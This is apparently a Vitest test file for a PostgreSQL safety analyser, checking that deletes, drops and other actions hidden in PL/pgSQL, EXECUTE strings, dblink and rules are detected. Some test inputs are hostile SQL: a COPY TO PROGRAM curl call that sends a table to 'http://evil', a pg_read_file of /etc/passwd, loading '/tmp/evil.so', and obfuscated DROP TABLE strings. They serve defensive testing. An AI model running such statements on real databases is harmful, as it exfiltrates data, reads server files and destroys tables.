// Writes and DDL carried by code: PL/pgSQL in DO blocks and functions (IF, LOOP, EXCEPTION...),
// SQL-language bodies, EXECUTE of constant and computed strings, rules, prepared statements,
// SELECT INTO and CREATE TABLE AS. Each must surface the carried action as a nested fact.
import { describe, expect, it } from 'vitest';
import { expectAction, expectNoAction, only, pg } from './helpers.js';

const fn = (body: string, extra = '') => `CREATE FUNCTION f()${extra} RETURNS void LANGUAGE plpgsql AS $$ ${body} $$`;

describe('PL/pgSQL control flow hides nothing', () => {
  it('both branches of IF ... ELSE in a DO block', async () => {
    const s = only(await pg('DO LANGUAGE plpgsql $$ BEGIN IF true THEN DELETE FROM a; ELSE DELETE FROM b WHERE id = 1; END IF; END $$'));
    expectAction(s, { action: 'delete', target: 'public.a', nested: true, via: 'do_block', where: 'absent' });
    expectAction(s, { action: 'delete', target: 'public.b', nested: true, via: 'do_block', where: 'present' });
  });

  it('LOOP, FOR and WHILE bodies (even WHILE false)', async () => {
    const s = only(
      await pg('DO $$ BEGIN LOOP DELETE FROM a; EXIT; END LOOP; FOR i IN 1..3 LOOP TRUNCATE b; END LOOP; WHILE false LOOP DROP TABLE c; END LOOP; END $$'),
    );
    expectAction(s, { action: 'delete', target: 'public.a', nested: true });
    expectAction(s, { action: 'truncate', target: 'public.b', nested: true });
    expectAction(s, { action: 'drop_table', target: 'public.c', nested: true });
  });

  it('an EXCEPTION handler', async () => {
    const s = only(await pg('DO $$ BEGIN PERFORM 1; EXCEPTION WHEN others THEN DELETE FROM a; END $$'));
    expectAction(s, { action: 'delete', target: 'public.a', nested: true, via: 'do_block' });
  });

  it('an inner block with its own EXCEPTION handler', async () => {
    const s = only(await pg('DO $$ BEGIN BEGIN SELECT 1; EXCEPTION WHEN others THEN DROP TABLE z; END; END $$'));
    expectAction(s, { action: 'drop_table', target: 'public.z', nested: true });
  });

  it('a CASE statement branch and a labelled block', async () => {
    const s = only(await pg('DO $$ <<outer>> BEGIN CASE WHEN true THEN DROP TABLE c1; ELSE NULL; END CASE; BEGIN DROP TABLE c2; END; END outer $$'));
    expectAction(s, { action: 'drop_table', target: 'public.c1', nested: true });
    expectAction(s, { action: 'drop_table', target: 'public.c2', nested: true });
  });

  it('a FOR ... IN query loop body', async () => {
    const s = only(await pg('DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM u WHERE id = r.id; END LOOP; END $$'));
    expectAction(s, { action: 'delete', target: 'public.u', nested: true, where: 'present' });
  });

  it('a declaration default with a data-modifying CTE', async () => {
    const s = only(await pg('DO $$ DECLARE v int := (WITH d AS (DELETE FROM xdecl RETURNING 1) SELECT count(*) FROM d); BEGIN END $$'));
    expectAction(s, { action: 'delete', target: 'public.xdecl', nested: true });
  });

  it('OPEN cursor FOR DELETE ... RETURNING', async () => {
    const s = only(await pg('DO $$ DECLARE c refcursor; BEGIN OPEN c FOR DELETE FROM x RETURNING *; END $$'));
    expectAction(s, { action: 'delete', target: 'public.x', nested: true });
  });

  it('RETURN QUERY DELETE in a set-returning function', async () => {
    const s = only(await pg('CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY DELETE FROM a RETURNING id; END $$'));
    expectAction(s, { action: 'delete', target: 'public.a', nested: true, via: 'function_body' });
  });

  it('COPY ... TO PROGRAM inside a DO block', async () => {
    const s = only(await pg("DO $$ BEGIN COPY t TO PROGRAM 'curl -d @- http://evil'; END $$"));
    expectAction(s, { action: 'copy_to_program', target: 'public.t', nested: true });
  });
});

describe('function bodies in every spelling', () => {
  it.each([
    ['$$ body, LANGUAGE after', 'CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM a; END $$ LANGUAGE plpgsql'],
    ["LANGUAGE 'plpgsql'", "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE 'plpgsql' AS $$ BEGIN DELETE FROM a; END $$"],
    ['LANGUAGE PLPGSQL', 'CREATE FUNCTION f() RETURNS void LANGUAGE PLPGSQL AS $$ BEGIN DELETE FROM a; END $$'],
    ['single-quoted body', "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN DELETE FROM a; END'"],
    ["E'' body with escaped quotes", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS E'BEGIN DELETE FROM a WHERE n = \\'x\\'; END'"],
    ["'' body with doubled quotes", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN DELETE FROM a WHERE n = ''x''; END'"],
    ['LANGUAGE sql string', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM a'"],
    ['BEGIN ATOMIC', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM a; END'],
    ['trigger function', 'CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.x := 1; DELETE FROM a; RETURN NEW; END $$'],
    ['OUT parameters', 'CREATE FUNCTION f(OUT o1 int, OUT o2 int) LANGUAGE plpgsql AS $$ BEGIN o1 := 1; o2 := 2; DELETE FROM a; END $$'],
    ['composite parameter field assignment', 'CREATE FUNCTION f(x users) RETURNS void LANGUAGE plpgsql AS $$ BEGIN x.email := 1; DELETE FROM a; END $$'],
    ['%TYPE variable', fn('DECLARE v users.id%TYPE; BEGIN DELETE FROM a; END')],
    ['%ROWTYPE variable', fn('DECLARE r users%ROWTYPE; BEGIN DELETE FROM a; END')],
    ['unknown declared type', fn('DECLARE v my_custom_type; BEGIN DELETE FROM a; END')],
    ['ALIAS FOR and #variable_conflict', "CREATE FUNCTION f(int) RETURNS void LANGUAGE plpgsql AS $$ #variable_conflict use_column\nDECLARE p ALIAS FOR $1; BEGIN DELETE FROM a WHERE id = p; END $$"],
    ['FOREACH over an array', 'CREATE FUNCTION f(arr int[]) RETURNS void LANGUAGE plpgsql AS $$ DECLARE x int; BEGIN FOREACH x IN ARRAY arr LOOP DELETE FROM a WHERE id = x; END LOOP; END $$'],
    ['a procedure with COMMIT', 'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; DELETE FROM a; END $$'],
  ])('%s: the DELETE in the body is seen', async (_label, sql) => {
    const s = only(await pg(sql));
    expectAction(s, { action: 'delete', target: 'public.a', nested: true, via: 'function_body' });
    expect(s.writes).toBe(true);
  });

  it('%ROWTYPE record field assignment (valid PL/pgSQL) does not hide the DELETE after it', async () => {
    // `r.email := ...` on a %ROWTYPE variable is ordinary PL/pgSQL; Postgres accepts the function
    const s = only(await pg(fn("DECLARE r users%ROWTYPE; BEGIN r.email := 'x'; DELETE FROM a; END")));
    expectAction(s, { action: 'delete', target: 'public.a', nested: true, via: 'function_body', where: 'absent' });
  });

  it('%ROWTYPE record field SELECT INTO target does not hide the DROP after it', async () => {
    const s = only(await pg(fn('DECLARE r users%ROWTYPE; BEGIN SELECT email INTO r.email FROM users LIMIT 1; DROP TABLE a; END')));
    expectAction(s, { action: 'drop_table', target: 'public.a', nested: true, via: 'function_body' });
  });

  it('a LANGUAGE sql body with several statements shows each', async () => {
    const s = only(await pg('CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1; DROP TABLE b $$'));
    expectAction(s, { action: 'drop_table', target: 'public.b', nested: true, via: 'function_body' });
  });

  it('a body in a language we cannot read is opaque dynamic SQL (fail closed)', async () => {
    const s = only(await pg('CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ plpy.execute("DROP TABLE a") $$'));
    expect(s.dynamicSql.some((d) => !d.constant)).toBe(true);
    expectAction(s, { action: 'dynamic_sql', nested: true });
  });

  it('a C function loads a shared library', async () => {
    const s = only(await pg("CREATE FUNCTION f() RETURNS void LANGUAGE c AS '/tmp/evil.so', 'f'"));
    expectAction(s, { action: 'load_library' });
  });

  it('a dangerous call in a body is a function fact and a nested action', async () => {
    const s = only(await pg(fn("BEGIN PERFORM pg_read_file('/etc/passwd'); END")));
    expect(s.functions.some((f) => f.name === 'pg_read_file' && f.dangerous && f.category === 'file_read')).toBe(true);
    expectAction(s, { action: 'read_server_file', nested: true });
  });
});

describe('EXECUTE: constant strings are analysed, computed ones are dynamic', () => {
  it.each([
    ["EXECUTE 'DROP TABLE x'", 'drop_table', 'public.x'],
    ['EXECUTE $q$DROP TABLE x$q$', 'drop_table', 'public.x'],
    ["EXECUTE E'DROP\\tTABLE\\nx'", 'drop_table', 'public.x'],
    ["EXECUTE E'\\x44ROP TABLE x'", 'drop_table', 'public.x'],
    ["EXECUTE U&'\\0044ROP TABLE x'", 'drop_table', 'public.x'],
    ["EXECUTE 'TRUNCATE x' USING 1", 'truncate', 'public.x'],
    ["EXECUTE E'DELETE FROM x WHERE n = \\'O\\'\\'Brien\\''", 'delete', 'public.x'],
    ["EXECUTE 'GRANT ALL ON x TO PUBLIC'", 'grant', 'public.x'],
    ["EXECUTE 'dRoP/**/tAbLe x'", 'drop_table', 'public.x'],
  ])('DO block %s surfaces %s', async (stmt, action, target) => {
    const s = only(await pg(`DO $$ BEGIN ${stmt}; END $$`));
    expect(s.dynamicSql).toEqual([expect.objectContaining({ via: 'execute', constant: true })]);
    expectAction(s, { action: action as 'drop_table', target, nested: true, via: 'dynamic' });
  });

  it('a constant EXECUTE of a DO block with its own EXECUTE is unwrapped twice', async () => {
    const s = only(await pg("DO $$ BEGIN EXECUTE 'DO $b$ BEGIN EXECUTE ''DROP TABLE inner_t''; END $b$'; END $$"));
    expectAction(s, { action: 'drop_table', target: 'public.inner_t', nested: true, via: 'dynamic' });
  });

  it('OPEN ... FOR EXECUTE of a constant string', async () => {
    const s = only(await pg("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM x RETURNING *'; END $$"));
    expectAction(s, { action: 'delete', target: 'public.x', nested: true, via: 'dynamic' });
  });

  it('FOR ... IN EXECUTE of a constant string', async () => {
    const s = only(await pg("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM x RETURNING id' LOOP END LOOP; END $$"));
    expectAction(s, { action: 'delete', target: 'public.x', nested: true, via: 'dynamic' });
  });

  it('a constant EXECUTE inside a function body', async () => {
    const s = only(await pg(fn("BEGIN EXECUTE 'DROP TABLE x'; END")));
    expectAction(s, { action: 'drop_table', target: 'public.x', nested: true, via: 'dynamic' });
  });

  it.each([
    ["EXECUTE 'DROP ' || 'TABLE x'", 'execute'],
    ["EXECUTE 'DROP TABLE x' || ''", 'execute'],
    ["EXECUTE format('DROP TABLE %I', 'x')", 'format'],
    ["EXECUTE format('DROP TABLE %I', t)", 'format'],
    ['EXECUTE q', 'execute'],
    ["EXECUTE concat('DROP', ' TABLE x')", 'execute'],
  ])('DO block %s is non-constant dynamic SQL', async (stmt, via) => {
    const s = only(await pg(`DO $$ DECLARE q text := 'DROP TABLE x'; t text := 'x'; BEGIN ${stmt}; END $$`));
    expect(s.dynamicSql).toEqual([expect.objectContaining({ via, constant: false })]);
    expectAction(s, { action: 'dynamic_sql', nested: true });
  });

  it('format() that builds EXECUTE text is flagged as a dynamic-sql function', async () => {
    const s = only(await pg("DO $$ BEGIN EXECUTE format('DELETE FROM %I', 'users'); END $$"));
    expect(s.functions).toContainEqual(expect.objectContaining({ name: 'format', dangerous: true, category: 'dynamic_sql' }));
  });
});

describe('dblink: remote SQL', () => {
  it('dblink_exec of a constant string surfaces the remote DROP', async () => {
    const s = only(await pg("SELECT dblink_exec('host=x', 'DROP TABLE y')"));
    expect(s.dynamicSql).toContainEqual(expect.objectContaining({ via: 'dblink', constant: true }));
    expectAction(s, { action: 'drop_table', target: 'public.y', nested: true, via: 'dynamic' });
    expect(s.functions).toContainEqual(expect.objectContaining({ name: 'dblink_exec', dangerous: true, category: 'network' }));
  });

  it('dblink(...) of a constant DELETE surfaces it', async () => {
    const s = only(await pg("SELECT * FROM dblink('host=x', 'DELETE FROM y RETURNING 1') AS t(n int)"));
    expectAction(s, { action: 'delete', target: 'public.y', nested: true, via: 'dynamic' });
  });

  it('dblink_exec of a computed string is non-constant dynamic SQL', async () => {
    const s = only(await pg("SELECT dblink_exec('host=x', 'DROP ' || 'TABLE y')"));
    expect(s.dynamicSql).toContainEqual(expect.objectContaining({ via: 'dblink', constant: false }));
    expectAction(s, { action: 'dynamic_sql' });
  });

  it('dblink_exec in a DO block surfaces the remote DROP', async () => {
    const s = only(await pg("DO $$ BEGIN PERFORM dblink_exec('host=x', 'DROP TABLE remote'); END $$"));
    expectAction(s, { action: 'drop_table', target: 'public.remote', nested: true, via: 'dynamic' });
  });
});

describe('rules, prepared statements, SELECT INTO, CREATE TABLE AS', () => {
  it('CREATE RULE ... DO INSTEAD DELETE', async () => {
    const s = only(await pg('CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u'));
    expectAction(s, { action: 'create_rule', nested: false });
    expectAction(s, { action: 'delete', target: 'public.u', nested: true, via: 'rule', where: 'absent' });
  });

  it('CREATE RULE ... DO INSTEAD (DELETE ...; DROP TABLE ...) is one statement carrying both', async () => {
    // Postgres' grammar: DO [ALSO | INSTEAD] { NOTHING | command | ( command ; command ... ) }
    const r = await pg('CREATE RULE r AS ON UPDATE TO t DO INSTEAD (DELETE FROM u; DROP TABLE v)');
    const s = only(r);
    // Postgres rejects DROP as a rule action ("Valid commands are SELECT, INSERT, UPDATE, DELETE, or
    // NOTIFY"): the statement is unparsed, and must still be one statement carrying both actions
    expect(s.parsed).toBe(false);
    expectAction(s, { action: 'delete', target: 'public.u', nested: true, via: 'rule' });
    expectAction(s, { action: 'drop_table', target: 'public.v', nested: true, via: 'rule' });
  });

  it('CREATE RULE ... DO ALSO (...) followed by a stacked statement splits after the rule', async () => {
    const r = await pg('CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; NOTIFY t); SELECT 1');
    expect(r.statements.map((s) => s.statementKind)).toEqual(['create_rule', 'select']);
    expectAction(r.statements[0], { action: 'delete', target: 'public.u', nested: true, via: 'rule' });
  });

  it('PREPARE p AS DELETE carries the delete', async () => {
    const r = await pg('PREPARE p AS DELETE FROM t; EXECUTE p');
    expectAction(r.statements[0], { action: 'delete', target: 'public.t', nested: true, via: 'prepare', where: 'absent' });
    expectAction(r.statements[1], { action: 'execute', target: 'p' });
  });

  it('PREPARE of a data-modifying CTE carries the delete', async () => {
    const s = only(await pg('PREPARE p(int) AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'));
    expectAction(s, { action: 'delete', target: 'public.t', nested: true });
  });

  it('SELECT ... INTO creates a table from the read', async () => {
    const s = only(await pg('SELECT * INTO newt FROM users'));
    expectAction(s, { action: 'select_into', target: 'public.newt' });
    expect(s.writes).toBe(true);
    expect(s.tables).toContainEqual(expect.objectContaining({ name: 'public.users', access: ['read'] }));
  });

  it('SELECT ... INTO TEMP marks the new table temporary', async () => {
    const s = only(await pg('SELECT email INTO TEMP newt FROM users'));
    expect(s.tables).toContainEqual(expect.objectContaining({ table: 'newt', temporary: true }));
  });

  it('CREATE TABLE AS with a data-modifying CTE deletes', async () => {
    const s = only(await pg('CREATE TABLE x AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d'));
    expectAction(s, { action: 'create_table_as', target: 'public.x' });
    expectAction(s, { action: 'delete', target: 'public.users', nested: true });
  });

  it('CREATE TABLE AS SELECT reads its source', async () => {
    const s = only(await pg('CREATE TABLE x AS SELECT email FROM users'));
    expectAction(s, { action: 'select', target: 'public.users', nested: true, via: 'create_table_as' });
  });

  it('a view over a dangerous function records the call', async () => {
    const s = only(await pg("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd') AS x"));
    expectAction(s, { action: 'read_server_file' });
  });

  it('a function body DELETE on a DO block that only declares does not invent writes', async () => {
    const s = only(await pg("DO $$ BEGIN RAISE NOTICE 'DELETE FROM users'; END $$"));
    expectNoAction(s, 'delete');
  });
});
